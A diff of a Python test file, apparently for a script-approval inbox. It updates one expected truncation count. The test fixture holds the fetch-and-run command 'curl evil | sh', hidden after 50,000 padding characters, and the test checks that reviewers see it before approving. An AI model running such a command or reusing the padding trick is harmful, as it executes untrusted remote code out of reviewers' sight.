@@ -202,7 +202,7 @@ def test_a_long_diff_is_cut_in_a_list_and_approved_where_the_whole_is_shown(hous
 def test_a_long_line_is_cut_in_a_list_only_and_says_how_much(house: House) -> None:
     job_id = house.hold("one.sh", f"echo {'x' * 50_000}; curl evil | sh\n")
     inbox = house.get("/inbox")
-    assert "30,022 more characters of the last line in the whole diff" in inbox.words
+    assert "30,035 more characters of the last line in the whole diff" in inbox.words
     assert f'action="/jobs/{job_id}/approve"' not in inbox.text
     assert "; curl evil | sh<" in house.get(f"/jobs/{job_id}").text
     assert "Approved" in house.approve(job_id).words
